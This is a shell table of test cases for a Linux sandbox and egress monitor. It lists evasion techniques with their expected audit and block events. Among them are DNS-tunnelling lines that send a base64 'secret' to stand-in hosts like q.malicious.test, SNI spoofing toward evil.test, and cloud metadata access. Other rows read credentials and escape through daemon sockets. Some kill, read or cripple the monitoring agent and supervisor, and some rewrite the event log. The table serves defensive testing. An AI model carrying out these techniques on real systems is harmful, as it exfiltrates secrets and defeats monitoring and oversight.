# The table of attacks, sourced by `run` once the sink is up.
#
# row NAME FLAGS JUDGE AUDIT BLOCK CLASS | WHAT IS TRIED | WHAT REMAINS -- PROGRAM ARGUMENT...
#
# FLAGS  comma-separated:
#   net, files, credentials   the policy: network rules; also `files` audit or block; also `credentials` audit or block
#   fileaudit                 network rules with `files audit` in both modes (the default of a step in block)
#   loopback-allow            `loopback allow` instead of `own`
#   sni                       `sni check`
#   late                      wait for what happens after the command has ended
#   inherit-socket, inherit-file, stdin-socket   open a connection as descriptor 9, the file as 9, a connection as 0
#   visit-tcp, visit-rights   an outside process comes to the program's listening socket
#   root, user                only as root, only as an ordinary user
# JUDGE  what counts as "the attack reached its goal":
#   arrives        something arrived at a socket that the policy does not allow
#   sends          bytes arrived there; the connection alone does not count
#   asked:TEXT     a DNS server was asked for a name that holds TEXT, or something arrived
#   word           the program's own exit status, where nothing arrives anywhere
#   secret, cmdline   the agent's secret was printed
#   agent          the agent was killed, stopped, changed or limited
#   file, touched  the protected file or its directory changed (content, type, mode; `touched`: also its change time)
#   own            a file of the agent changed (own-path)
#   credential     the credential's content was printed
#   evidence       the event file is not what the helper wrote, and nothing says so
#   visited, uid0  a visitor got the token; the program became root
# AUDIT  event that must be there in audit (fields K=V, K~PART; alternatives with ||), or `-`: no event is written about
#        this class, so that the attack must be refused in audit, too
# BLOCK  event that must be there in block, beside the attack being stopped; `-`: being stopped is enough
#
# @AGENT @SECRET @LENGTH @SUPERVISOR @FRONT @FILE @OWN @SCRATCH @EVENTS @POLICY @CREDENTIAL @AGENTSOCKET stand for what is
# known when a phase starts.

would="k=net port=$D verdict=would-block"
blocked="k=net port=$D verdict=blocked"
no="k=refused"
at="127.0.1.9 $D"

# ---- TCP ----
row connect net arrives "$would op=connect" "$blocked op=connect" "TCP | blocking connect, then send |" -- connect blocking $at
row connect-nonblocking net arrives "$would" "$blocked" "TCP | non-blocking connect |" -- connect nonblocking $at
row connect-reconnect net arrives "$would" "$blocked" "TCP | connect to an allowed address, disconnect, connect to another |" -- connect reconnect $at 127.0.1.9 $A
row connect-unreadable net arrives "$would || k=refused what=process" "$blocked || k=refused what=process" "TCP | a process that made itself unreadable (PR_SET_DUMPABLE) |" -- connect unreadable $at
row connect-long-address net arrives "$would" "$blocked" "TCP | address longer than needed, high descriptor number |" -- connect long-address $at
row connect-unspecified net arrives "k=net port=$D" "$blocked" "UDP | address family AF_UNSPEC |" -- connect unspecified-family $at
row other-port net arrives "$would" "$blocked" "TCP | an allowed name's address, another port |" -- sh -c "$BIN/dns_query connected 127.0.1.53 53 allowed.test; exec $BIN/connect blocking $at"
row race-connect-address net arrives "$would" "$blocked" "TCP | second thread rewrites the address ($TRIES tries) |" -- race connect-address 127.0.1.9 $A $D $TRIES
row race-connect-descriptor net arrives "k=net proto=udp port=$A verdict=would-block" "-" "TCP | second thread exchanges the socket by dup2 ($TRIES tries) |" -- race connect-descriptor 127.0.1.9 $A $D $TRIES
row race-shared-table net arrives "k=net proto=udp port=$A verdict=would-block" "-" "TCP | the same from a process that shares the descriptor table |" -- race shared-table 127.0.1.9 $A $D $TRIES
row fastopen-sendto net arrives "$would op=sendto" "$blocked" "TCP | fast open: sendto |" -- connect fastopen-sendto $at
row fastopen-sendmsg net arrives "$would op=sendmsg" "$blocked" "TCP | fast open: sendmsg |" -- connect fastopen-sendmsg $at
row fastopen-sendmmsg net arrives "$would op=sendmmsg" "$blocked" "TCP | fast open: sendmmsg |" -- connect fastopen-sendmmsg $at
row fastopen-connect net arrives "$would" "$blocked" "TCP | fast open: TCP_FASTOPEN_CONNECT |" -- connect fastopen-connect $at
row address-form net arrives "$would" "$blocked" "TCP | IPV6_ADDRFORM after an allowed connection |" -- connect address-form ::ffff:127.0.1.9 $D ::ffff:127.0.1.9 $A

# ---- source routes ----
for kind in lsrr ssrr upper-bits; do
    row "route-$kind" net,root word "-" "-" "UDP | source route to an allowed address: IP_OPTIONS, $kind |" -- source_route "$kind" 127.0.1.9 $B 127.0.1.8
done
for kind in control control-many; do
    row "route-$kind" net,root word "$no what=socket" "$no what=socket" "UDP | source route in a control message (IP_RETOPTS): $kind |" -- source_route "$kind" 127.0.1.9 $B 127.0.1.8
done
row route-header net word "-" "-" "UDP | source route of IPv6: IPV6_RTHDR |" -- source_route rthdr ::1 $B ::1

# ---- UDP ----
row udp-connect net arrives "$would op=connect" "$blocked" "UDP | connect, then send |" -- datagram connect-send $at
row udp-write net arrives "$would" "$blocked" "UDP | connect, then write |" -- datagram connect-write $at
row udp-sendto net arrives "$would op=sendto" "$blocked" "UDP | sendto |" -- datagram sendto $at
row udp-sendmsg net arrives "$would op=sendmsg" "$blocked" "UDP | sendmsg (unlogged by a peer: GHSA-cpmj-h4f6-r6pq) |" -- datagram sendmsg $at
for entry in first second third; do
    row "udp-sendmmsg-$entry" net arrives "$would op=sendmmsg" "$blocked" "UDP | sendmmsg, the $entry of three messages |" -- datagram "sendmmsg-$entry" $at 127.0.1.9 $B
done
row udp-connected-sendto net arrives "$would" "$blocked" "UDP | connected to an allowed address, sendto another |" -- datagram connected-sendto $at 127.0.1.9 $B
row udp-connected-sendmsg net arrives "$would" "$blocked" "UDP | connected to an allowed address, msg_name of another |" -- datagram connected-sendmsg $at 127.0.1.9 $B
for kind in sendto-address sendmsg-name sendmsg-header sendmmsg-name; do
    row "race-$kind" net arrives "$would" "$blocked" "UDP | second thread rewrites it: $kind ($TRIES tries) |" -- race "$kind" 127.0.1.9 $B $D $TRIES
done

# ---- other transports, families, ABIs ----
row mptcp net arrives "$no what=socket" "$no what=socket" "Transports | MPTCP |" -- protocols mptcp $at
row sctp net arrives "$no what=socket" "$no what=socket" "Transports | SCTP |" -- protocols sctp $at
row sctp-connectx net arrives "$no what=socket" "$no what=socket" "Transports | SCTP, SCTP_SOCKOPT_CONNECTX |" -- protocols sctp-connectx $at
row dccp net arrives "$no what=socket" "$no what=socket" "Transports | DCCP |" -- protocols dccp $at
row udplite net arrives "$no what=socket" "$no what=socket" "Transports | UDP-Lite |" -- protocols udplite $at
row raw net arrives "$no what=socket" "$no what=socket" "Families | raw IP socket |" -- families raw $at
row packet net arrives "$no what=socket" "$no what=socket" "Families | packet socket |" -- families packet 203.0.113.9 "$D"
row tun fileaudit,root arrives "k=file path=/dev/net/tun" "-" "Families | packet through a network device of our own (tun) |" -- families tun 203.0.113.9 "$D"
row ping net word "$no what=socket" "$no what=socket" "Families | data in ICMP echo |" -- families ping 127.0.1.9 0
for family in old-packet vsock alg xdp tipc bluetooth rds kcm netfilter sock-diag generic uevent; do
    row "family-$family" net word "$no what=socket" "$no what=socket" "Families | $family socket |" -- families "$family"
done
row io-uring net arrives "$no what=io_uring" "$no what=io_uring" "ABIs | connect and send through io_uring |" -- io_uring $at
row int80-socketcall net arrives "$no what=syscall" "$no what=syscall" "ABIs | 32-bit socketcall by int 0x80 |" -- foreign int80-socketcall $at
row int80-connect net arrives "$no what=syscall" "$no what=syscall" "ABIs | 32-bit connect by int 0x80 |" -- foreign int80-connect $at
row x32 net arrives "$no what=syscall" "$no what=syscall" "ABIs | x32 connect |" -- foreign x32 $at
row raw-calls net arrives "$would" "$blocked" "ABIs | static program without a C library |" -- raw_calls $at
row disguise-argv net arrives "k=process argv~raw_calls" "k=process argv~raw_calls" "Attribution | a program that overwrites its own argument vector | the request's arguments stay in the first event of the image; readers must not drop it" -- raw_calls $at

# ---- addresses ----
row ipv6-loopback net arrives "$would" "$blocked" "Addresses | IPv6 ::1 |" -- connect blocking ::1 $D
row ipv6-global net arrives "$would addr=2001:db8::9" "$blocked" "Addresses | IPv6, global |" -- connect blocking 2001:db8::9 $D
row ipv6-udp net arrives "$would" "$blocked" "Addresses | IPv6, UDP |" -- datagram sendto 2001:db8::9 $D
row ipv4-global net arrives "$would addr=203.0.113.9" "$blocked" "Addresses | IPv4, global, literal |" -- connect blocking 203.0.113.9 $D
row mapped net arrives "$would addr=127.0.1.9" "$blocked" "Addresses | IPv4-mapped |" -- connect blocking ::ffff:127.0.1.9 $D
row mapped-global net arrives "$would addr=203.0.113.9" "$blocked" "Addresses | IPv4-mapped, global |" -- connect blocking ::ffff:203.0.113.9 $D
row nat64 net arrives "$would addr=203.0.113.9" "$blocked" "Addresses | NAT64 64:ff9b::/96 |" -- connect blocking 64:ff9b::203.0.113.9 $D
row zero net arrives "$would" "$blocked" "Addresses | 0.0.0.0 |" -- connect blocking 0.0.0.0 $D
row zero6 net arrives "$would" "$blocked" "Addresses | :: |" -- connect blocking :: $D
row zone net arrives "$would" "$blocked rule=metadata" "Addresses | link-local IPv6 with a zone |" -- connect blocking fe80::1%lo $D
row metadata net arrives "k=net port=80 verdict=would-block rule=metadata" "k=net port=80 verdict=blocked rule=metadata" "Addresses | metadata 169.254.169.254 |" -- connect blocking 169.254.169.254 80
for address in 168.63.129.16 100.100.100.200; do
    row "metadata-${address%%.*}" net arrives "k=net port=80 verdict=would-block rule=metadata" "k=net port=80 verdict=blocked rule=metadata" "Addresses | metadata $address |" -- connect blocking $address 80
done
row metadata6 net arrives "k=net port=80 verdict=would-block rule=metadata" "k=net port=80 verdict=blocked rule=metadata" "Addresses | metadata fd00:ec2::254 |" -- connect blocking fd00:ec2::254 80
row metadata-mapped net arrives "k=net port=80 verdict=would-block rule=metadata" "k=net port=80 verdict=blocked rule=metadata" "Addresses | metadata, IPv4-mapped |" -- connect blocking ::ffff:169.254.169.254 80
if [ "$HERMETIC" = 1 ]; then # 0.0.0.0 is the address that the socket is bound to
    row zero-bound net,loopback-allow arrives "k=net addr=0.0.0.0 port=80" "k=net addr=0.0.0.0 port=80" "Addresses | 0.0.0.0 from a socket that is bound to the metadata address |" -- connect bound-zero 0.0.0.0 80 169.254.169.254 0
    row zero-bound-mapped net,loopback-allow arrives "k=net addr=0.0.0.0 port=80" "k=net addr=0.0.0.0 port=80" "Addresses | the same, IPv4-mapped |" -- connect bound-zero ::ffff:0.0.0.0 80 ::ffff:169.254.169.254 0
    row zero-bound-udp net,loopback-allow arrives "k=net addr=0.0.0.0" "k=net addr=0.0.0.0" "Addresses | the same, a datagram |" -- datagram bound-zero 0.0.0.0 $D 203.0.113.9 0
fi
if [ -n "$WIRE" ]; then
    for kind in bind bind-index unicast control control-connected; do
        row "device-$kind" net,loopback-allow arrives "-" "-" "Addresses | a datagram to 127.0.0.1 that is to leave by a network device: $kind |" -- device "$kind" 127.0.0.1 9 near
    done
    for kind in bind unicast sticky control; do
        row "device6-$kind" net,loopback-allow arrives "-" "-" "Addresses | the same to ::1: $kind |" -- device "$kind" ::1 9 near
    done
    for kind in join join-group; do
        row "$kind" net arrives "k=net op=bind addr~ff1e verdict=would-block rule=metadata" "k=net op=bind addr~ff1e verdict=blocked rule=metadata" "Addresses | data in the address of a multicast group that is joined: $kind |" -- device "$kind" ::1 9 near
    done
    row join4 net word "k=net op=bind addr=239.83.69.67 verdict=would-block rule=metadata" "k=net op=bind addr=239.83.69.67 verdict=blocked rule=metadata" "Addresses | the same with IPv4 |" -- device join4 127.0.0.1 9 near
fi
row metadata-loopback-allow net,loopback-allow arrives "k=net port=80 verdict=would-block rule=metadata" "k=net port=80 verdict=blocked rule=metadata" "Addresses | metadata with loopback allow |" -- connect blocking 169.254.169.254 80
row loopback-default net,loopback-allow arrives "k=net port=$D" "$blocked" "Addresses | a service on loopback under the default loopback allow | set loopback own" -- connect blocking $at

# ---- names ----
dns="k=dns name~q.malicious.test verdict"
for kind in connected sendto sendmsg sendmmsg tcp; do
    row "dns-$kind" net asked:q.malicious.test "$dns=would-block" "$dns=blocked" "Names | data in a name, asked of another server ($kind) |" -- dns_query "$kind" 127.0.1.53 53 "c2VjcmV0LW9mLXRoZS1idWlsZA.q.malicious.test"
done
row dns-mapped net asked:q.malicious.test "$dns=would-block" "$dns=blocked" "Names | the same, server IPv4-mapped |" -- dns_query connected ::ffff:127.0.1.53 53 "c2VjcmV0.q.malicious.test"
row dns-text net asked:q.malicious.test "$dns=would-block" "$dns=blocked" "Names | the same, type TXT |" -- dns_query connected 127.0.1.53 53 "c2VjcmV0.q.malicious.test" 16
row dns-odd-port net arrives "$would" "$blocked" "Names | DNS on another port than 53 |" -- datagram sendto $at
row dns-dot net arrives "k=net port=853 verdict=would-block" "k=net port=853 verdict=blocked" "Names | DNS over TLS to a server that is not allowed |" -- connect blocking 203.0.113.9 853
row dns-suffix net asked:evilwild.test "k=dns name~evilwild.test verdict=would-block" "k=dns name~evilwild.test verdict=blocked" "Names | a name that only ends like an allowed one (evilwild.test, *.wild.test) |" -- dns_query connected 127.0.1.53 53 evilwild.test
row dns-rebind net arrives "k=net port=80" "k=net port=80 verdict=blocked" "Names | an allowed wildcard whose owner answers with the metadata address |" -- sh -c "$BIN/dns_query connected 127.0.1.53 53 meta.wild.test; exec $BIN/connect blocking 169.254.169.254 80"
row dns-tunnel net asked:c2VjcmV0 "k=dns name~wild.test" "k=dns name~wild.test verdict=blocked" "Names | data in labels under an allowed wildcard |" -- dns_query connected 127.0.1.53 53 "c2VjcmV0LW9mLXRoZS1idWlsZA-Zm9vYmFy-YmF6cXV4.wild.test"

# ---- names presented at an allowed name's address ----
if [ "$HERMETIC" = 1 ]; then
    for kind in host target pieces tls; do
        row "presented-$kind" net,sni sends "k=net port=80 name=evil.test verdict=would-block rule=sni" "k=net port=80 name=evil.test verdict=blocked rule=sni" \
            "Names | another name, asked of an allowed name's address: $kind |" -- sh -c "$BIN/dns_query connected 127.0.1.53 53 a.wild.test; exec $BIN/presented $kind 127.0.1.9 80 evil.test"
    done
    for kind in nameless plain; do
        row "presented-$kind" net,sni sends "k=net port=80 verdict=would-block rule=sni" "k=net port=80 verdict=blocked rule=sni" \
            "Names | no name, at an allowed name's address: $kind |" -- sh -c "$BIN/dns_query connected 127.0.1.53 53 a.wild.test; exec $BIN/presented $kind 127.0.1.9 80 evil.test"
    done
fi

# ---- descriptors ----
row inherited net,inherit-socket arrives "-" "-" "Descriptors | connection that was open before the command |" -- descriptors inherited 9
row inherited-stdin net,stdin-socket arrives "k=net op=inherited verdict=would-block" "k=net op=inherited verdict=blocked" "Descriptors | connection as standard input |" -- descriptors inherited 0
row rights net arrives "k=net proto=unix path~agent.sock verdict=would-block" "k=net proto=unix path~agent.sock verdict=blocked" "Descriptors | an outside process hands a connection over (unix path) |" -- descriptors rights @AGENTSOCKET
row rights-abstract net arrives "k=net proto=unix verdict=would-block" "k=net proto=unix verdict=blocked" "Descriptors | the same over an abstract socket |" -- descriptors rights @AGENTABSTRACT
row rights-served net,visit-rights arrives "k=net proto=unix" "-" "Descriptors | an outside process comes and brings a connection |" -- descriptors rights-served @SCRATCH/served
row take net arrives "-" "-" "Descriptors | pidfd_getfd of an outside process's connection |" -- descriptors take @AGENT 9
row listen net,visit-tcp visited "k=net op=listen port=$D" "k=net op=listen verdict=blocked" "Descriptors | listen, and let the outside come in |" -- connect listen 127.0.1.77 $D

# ---- unix sockets of daemons ----
daemon="k=net proto=unix verdict"
if [ "$HERMETIC" = 1 ]; then
    row docker net arrives "$daemon=would-block path=/run/docker.sock" "$daemon=blocked" "Daemons | /run/docker.sock |" -- unix_connect direct /run/docker.sock
    row docker-symlink net arrives "$daemon=would-block" "$daemon=blocked" "Daemons | the same through a symbolic link |" -- unix_connect symlink /run/docker.sock @SCRATCH
    row docker-relative net arrives "$daemon=would-block" "$daemon=blocked" "Daemons | the same by a relative path |" -- unix_connect relative /run/docker.sock @SCRATCH
    row docker-hardlink net arrives "$daemon=would-block" "$daemon=blocked" "Daemons | the same through a hard link |" -- unix_connect hardlink /run/docker.sock @SCRATCH
    row docker-bind net arrives "$daemon=would-block" "$daemon=blocked" "Daemons | the same through a bind mount in a namespace |" -- unix_connect bind /run/docker.sock @SCRATCH
    row docker-chroot net arrives "$daemon=would-block" "$daemon=blocked" "Daemons | the same from a root of our own |" -- unix_connect chroot /run/docker.sock @SCRATCH
    row containerd net arrives "$daemon=would-block" "$daemon=blocked" "Daemons | containerd |" -- unix_connect direct /run/containerd/containerd.sock
    row containerd-hardlink net arrives "$daemon=would-block" "$daemon=blocked" "Daemons | containerd through a hard link |" -- unix_connect hardlink /run/containerd/containerd.sock @SCRATCH
    row containerd-bind net arrives "$daemon=would-block" "$daemon=blocked" "Daemons | containerd through a bind mount in a namespace |" -- unix_connect bind /run/containerd/containerd.sock @SCRATCH
    row systemd net arrives "$daemon=would-block" "$daemon=blocked" "Daemons | systemd's private socket |" -- unix_connect direct /run/systemd/private
    row dbus net arrives "$daemon=would-block" "$daemon=blocked" "Daemons | D-Bus |" -- unix_connect direct /run/dbus/system_bus_socket
    row resolved net arrives "k=net proto=unix path~io.systemd.Resolve verdict=blocked" "$daemon=blocked" "Daemons | systemd-resolved's varlink socket |" -- unix_connect direct /run/systemd/resolve/io.systemd.Resolve
    # not there all the time: every program of the runner would ask it
    row nscd net arrives "k=net proto=unix path~nscd verdict=blocked" "$daemon=blocked" "Daemons | nscd |" -- sh -c "mv /run/nscd/socket.off /run/nscd/socket; exec $BIN/unix_connect direct /run/nscd/socket"
fi
row abstract net arrives "$daemon=would-block" "$daemon=blocked" "Daemons | abstract socket of an outside process |" -- unix_connect direct "@$ABSTRACT"
row abstract-datagram net arrives "$daemon=would-block" "$daemon=blocked" "Daemons | the same, datagram |" -- unix_connect datagram "@$ABSTRACT-gram"
row abstract-message net arrives "$daemon=would-block" "$daemon=blocked" "Daemons | the same, sendmsg |" -- unix_connect sendmsg "@$ABSTRACT-gram"

# ---- the agent ----
for kind in ptrace-peek vm-read mem-read environ; do
    row "agent-$kind" net secret "-" "-" "Agent | read its memory or environment: $kind |" -- process "$kind" @AGENT @SECRET @LENGTH
done
row agent-cmdline net cmdline "-" "-" "Agent | read its command line |" -- process cmdline @AGENT
row agent-descriptor net credential "-" "-" "Agent | open one of its files through /proc |" -- process open-descriptor @AGENT
for kind in ptrace-poke vm-write mem-write; do
    row "agent-$kind" net agent "-" "-" "Agent | change its memory: $kind |" -- process "$kind" @AGENT @SECRET @LENGTH
done
for kind in kill terminate stop thread-kill pidfd-kill queue owner-kill; do
    row "agent-$kind" net agent "-" "-" "Agent | signals: $kind |" -- process "$kind" @AGENT
done
row agent-oom fileaudit agent "k=file path~oom_score_adj rule=self-protection" "k=file path~oom_score_adj verdict=blocked" "Agent | cripple it: oom |" -- process oom @AGENT
for kind in limit limit-cpu limit-files idle nice; do
    row "agent-$kind" net agent "-" "-" "Agent | cripple it: $kind |" -- process "$kind" @AGENT
done
row agent-descriptors net word "-" "-" "Agent | take any descriptor (pidfd_getfd) |" -- process descriptors @AGENT

# ---- the supervisor ----
for kind in attach vm-read vm-write mem-open environ descriptors; do
    row "supervisor-$kind" net word "-" "-" "Supervisor | $kind |" -- process "$kind" @SUPERVISOR @SECRET @LENGTH
done
for kind in kill terminate stop thread-kill pidfd-kill owner-kill limit limit-cpu limit-files idle nice; do
    row "supervisor-$kind" net word "-" "-" "Supervisor | $kind |" -- process "$kind" @SUPERVISOR
done
for kind in attach kill stop vm-write; do
    row "front-$kind" net word "-" "-" "Supervisor | the front process: $kind |" -- process "$kind" @FRONT @SECRET @LENGTH
done
for kind in file-size open-files memory; do
    row "suppress-$kind" net arrives "$would" "$blocked" "Supervisor | take its resources away ($kind), then connect |" -- suppress "$kind" $at
done
row death-killed fileaudit,special arrives "-" "-" "Supervisor | it is killed by somebody else: what is open then |" -- supervisor_gone killed $at @FILE
row death-stopped fileaudit,special arrives "-" "-" "Supervisor | it is stopped by somebody else |" -- supervisor_gone stopped $at @FILE

# ---- control groups: the files in /sys/fs/cgroup ----
row cgroup-agent fileaudit,root word "k=file path~cgroup rule=self-protection" "k=file path~cgroup verdict=blocked" "Agent | control groups: freeze it | with files off nothing looks at files, and the permissions of the cgroup file system decide" -- control_group freeze @AGENT
row cgroup-agent-kill fileaudit,root agent "k=file path~cgroup rule=self-protection" "k=file path~cgroup verdict=blocked" "Agent | control groups: kill it (cgroup.kill) |" -- control_group kill @AGENT
row cgroup-supervisor fileaudit,root word "k=file path~cgroup rule=self-protection" "k=file path~cgroup verdict=blocked" "Supervisor | control groups: freeze it |" -- control_group freeze @SUPERVISOR
row cgroup-front fileaudit,root word "k=file path~cgroup rule=self-protection" "k=file path~cgroup verdict=blocked" "Supervisor | control groups: freeze the front process |" -- control_group freeze @FRONT
row cgroup-leave fileaudit,root word "k=file path~cgroup rule=self-protection" "k=file path~cgroup verdict=blocked" "Processes | control groups: leave the build's own |" -- control_group move self

# ---- lineage ----
row daemon net,late arrives "$would" "$blocked" "Processes | daemon connects after the command has ended |" -- lineage daemon $at
row subreaper net,late arrives "$would" "$blocked" "Processes | the same below a subreaper of its own |" -- lineage subreaper $at
for kind in vfork files own-table pid-namespace memfd; do
    row "lineage-$kind" net arrives "$would" "$blocked" "Processes | $kind |" -- lineage "$kind" $at
done
row lineage-sibling net,late arrives "$would" "$blocked" "Processes | child of the supervisor (CLONE_PARENT) |" -- lineage sibling $at
row net-namespace net arrives "$would" "$blocked" "Processes | network namespace and back |" -- lineage net-namespace $at
row false-listener net arrives "$would" "$blocked" "Processes | own listener of the same number in a namespace |" -- lineage false-listener $at
row port-squat net arrives "$would" "$blocked" "Processes | own listener of the same number on another address |" -- lineage port-squat $at
for kind in allow trace; do
    row "filter-$kind" net arrives "$would" "$blocked" "Processes | own seccomp filter: $kind |" -- filters "$kind" $at
done
row filter-listener net arrives "-" "-" "Processes | own seccomp filter with a listener that lets everything pass |" -- filters listener $at
row terminal net word "-" "-" "Processes | typing into the terminal (TIOCSTI) |" -- terminal plain
row terminal-upper-bits net word "-" "-" "Processes | the same with rubbish in the upper half |" -- terminal upper-bits
row disguise-map net word "-" "-" "Attribution | PR_SET_MM_MAP |" -- disguise map
row disguise-exe net,root word "-" "-" "Attribution | PR_SET_MM_EXE_FILE |" -- disguise exe
row setuid net,user uid0 "-" "-" "Privilege | set-user-ID program |" -- privileged setuid "$SETUID"
row module net,root word "$no what~module || k=refused detail~module || $no what=syscall" "$no" "Privilege | load a kernel module |" -- privileged module
row bpf net,root word "$no" "$no" "Privilege | load a BPF program |" -- privileged bpf
row usermode-helper fileaudit,root word "k=file path~core_pattern" "-" "Privilege | open the kernel's core_pattern for writing (nothing is written) |" -- privileged usermode-helper
row kernel-memory net,root word "-" "-" "Privilege | read all memory through /proc/kcore |" -- privileged kernel-memory
row sysrq fileaudit,root word "k=file path~sysrq" "-" "Privilege | open the kernel's sysrq trigger for writing (nothing is written) |" -- privileged sysrq

# ---- files ----
file="k=file path~tracked rule=protected"
refused="k=file path~tracked verdict=blocked"
for kind in write-only read-write append truncate-read-only creat openat old-open chdir; do
    row "open-$kind" files file "$file" "$refused" "Files | open: $kind |" -- file_open "$kind" @FILE @SCRATCH
done
row open-openat2 files file "-" "-" "Files | open: openat2 |" -- file_open openat2 @FILE @SCRATCH
row open-both-bits files word "$file" "$refused" "Files | open: access mode 3 |" -- file_open both-bits @FILE @SCRATCH
for kind in fd-alias dev-alias thread-alias odd-alias link-alias root-alias cwd-alias symlink long-path; do
    row "open-$kind" files file "$file" "$refused" "Files | another name: $kind |" -- file_open "$kind" @FILE @SCRATCH
done
row open-hardlink files file "k=file rule=protected" "-" "Files | another name: hard link |" -- file_open hardlink @FILE @SCRATCH
row open-path-only files file "k=file rule=protected" "-" "Files | another name: O_PATH descriptor, linked elsewhere |" -- file_open path-only @FILE @SCRATCH
row open-bind-alias files file "k=file op=write rule=protected" "-" "Files | another name: bind mount in a namespace |" -- file_open bind-alias @FILE @SCRATCH
row open-chroot-alias files file "k=file op=write rule=protected" "-" "Files | another name: root of our own |" -- file_open chroot-alias @FILE @SCRATCH
row open-bind-hidden files file "k=file op=write rule=protected" "-" "Files | another name: bind mount over /dev/pts in a namespace |" -- file_open bind-hidden @FILE @SCRATCH
row open-chroot-link files file "k=file op=write rule=protected" "-" "Files | another name: absolute link inside a root of our own |" -- file_open chroot-link @FILE @SCRATCH
row open-dangling files file "k=file path~planted" "-" "Files | created through a dangling link |" -- file_open dangling @FILE @SCRATCH
row open-unnamed-empty files file "k=file path~planted || k=file to~planted" "-" "Files | O_TMPFILE elsewhere, linkat with AT_EMPTY_PATH |" -- file_open unnamed-empty @FILE @SCRATCH
row open-unnamed files file "k=file path~planted || k=file to~planted" "-" "Files | O_TMPFILE and linkat into the directory |" -- file_open unnamed @FILE @SCRATCH
row open-shared-mapping files file "$file" "$refused" "Files | shared mapping |" -- file_open shared-mapping @FILE @SCRATCH
row open-inherited-mapping files,inherit-file file "-" "-" "Files | shared mapping of a descriptor that was open before |" -- file_open inherited-mapping @FILE @SCRATCH
row open-handle files,root file "$no" "$no" "Files | open by handle |" -- privileged handle @FILE
row mount-over files,root file "-" "-" "Files | another file mounted over it |" -- file_open mount-over @FILE @SCRATCH
row race-path files file "$file" "-" "Files | path swapped between check and use ($TRIES tries) | content is compared at the end of the block (git's own index)" -- file_race @FILE @SCRATCH $TRIES
for kind in rename-over renameat-over exchange; do
    row "name-$kind" files file "k=file op=rename to~tracked" "k=file op=rename verdict=blocked" "Files | $kind |" -- file_name "$kind" @FILE @SCRATCH
done
row name-rename-away files file "k=file op=rename path~tracked" "k=file op=rename verdict=blocked" "Files | rename-away |" -- file_name rename-away @FILE @SCRATCH
row name-directory-away files file "k=file op=rename path~src" "k=file op=rename verdict=blocked" "Files | the directory renamed away, another one in its place |" -- file_name directory-away @FILE @SCRATCH
for kind in unlink unlinkat replace-by-link; do
    row "name-$kind" files file "k=file op=unlink path~tracked" "k=file op=unlink verdict=blocked" "Files | $kind |" -- file_name "$kind" @FILE @SCRATCH
done
row name-truncate files file "k=file op=truncate path~tracked" "k=file op=truncate verdict=blocked" "Files | truncate |" -- file_name truncate @FILE @SCRATCH
row name-link-truncate files file "k=file op=truncate path~tracked" "k=file op=truncate verdict=blocked" "Files | truncate through a symbolic link |" -- file_name link-truncate @FILE @SCRATCH
for kind in mkdir mknod symlink-into link-into create; do
    row "name-$kind" files file "k=file path~planted || k=file to~planted" "k=file verdict=blocked" "Files | new entry in a protected directory: $kind |" -- file_name "$kind" @FILE @SCRATCH
done
for kind in chmod fchmod fchmodat fchmodat2 empty-chmod; do
    row "meta-$kind" files file "k=file op=chmod path~tracked" "k=file op=chmod verdict=blocked" "Files | attributes: $kind |" -- file_name "$kind" @FILE @SCRATCH
done
for kind in chown fchownat empty-chown link-chown; do
    row "meta-$kind" files touched "k=file op=chown path~tracked" "k=file op=chown verdict=blocked" "Files | attributes: $kind |" -- file_name "$kind" @FILE @SCRATCH
done
row meta-setxattrat files touched "-" "-" "Files | attributes: setxattrat |" -- file_name setxattrat @FILE @SCRATCH
for kind in setxattr fsetxattr link-xattr; do
    row "meta-$kind" files touched "k=file op=xattr path~tracked" "k=file op=xattr verdict=blocked" "Files | attributes: $kind |" -- file_name "$kind" @FILE @SCRATCH
done
for kind in utimensat futimens utimes utime empty-utime link-utime; do
    row "meta-$kind" files touched "k=file op=utime path~tracked" "k=file op=utime verdict=blocked" "Files | attributes: $kind |" -- file_name "$kind" @FILE @SCRATCH
done
row meta-flags files touched "k=file path~tracked" "-" "Files | attributes: FS_IOC_SETFLAGS |" -- file_name flags @FILE @SCRATCH

# ---- credentials ----
read="k=file op=read path~token"
for kind in open symlink path-only; do
    row "credential-$kind" credentials credential "$read" "$read verdict=blocked" "Credentials | read: $kind |" -- file_read "$kind" @CREDENTIAL @SCRATCH
done
row credential-openat2 credentials credential "-" "-" "Credentials | read: openat2 |" -- file_read openat2 @CREDENTIAL @SCRATCH
row credential-hardlink credentials credential "k=file path~token" "-" "Credentials | read: through a hard link |" -- file_read hardlink @CREDENTIAL @SCRATCH
row credential-rename credentials credential "k=file path~token" "-" "Credentials | read: after a rename |" -- file_read rename @CREDENTIAL @SCRATCH
row credential-directory-rename credentials credential "k=file path~secrets" "-" "Credentials | read: after a rename of its directory |" -- file_read directory-rename @CREDENTIAL @SCRATCH
row credential-overlay credentials credential "k=file path~token" "$no what=syscall" "Credentials | read: through an overlay that is mounted nowhere |" -- file_read overlay @CREDENTIAL @SCRATCH
row credential-race-map credentials,fileaudit credential "$read" "-" "Credentials | read: path swapped with that of a user namespace's map ($TRIES tries) |" -- file_read race-map @CREDENTIAL @SCRATCH $TRIES

# ---- the agent's own files ----
for kind in write-only truncate-read-only fd-alias odd-alias long-path symlink hardlink path-only bind-alias chroot-link; do
    row "own-$kind" fileaudit own "-" "-" "Agent | write to one of its files: $kind |" -- file_open "$kind" @OWN @SCRATCH
done
for kind in rename-over exchange rename-away directory-away unlink truncate link-truncate chmod empty-chmod; do
    row "own-$kind" fileaudit own "-" "-" "Agent | replace or change one of its files: $kind |" -- file_name "$kind" @OWN @SCRATCH
done
row own-race fileaudit own "-" "-" "Agent | path swapped between check and use ($TRIES tries) |" -- file_race @OWN @SCRATCH $TRIES

# ---- evidence ----
for kind in append rewrite truncate unlink rename replace directory parent parent-alias mapping link odd-alias long-path; do
    row "events-$kind" fileaudit evidence "-" "-" "Evidence | the event file: $kind |" -- evidence "$kind" @EVENTS
done
row policy-change fileaudit arrives "$would" "$blocked" "Evidence | the policy file is rewritten after the start |" -- policy_change @POLICY $at
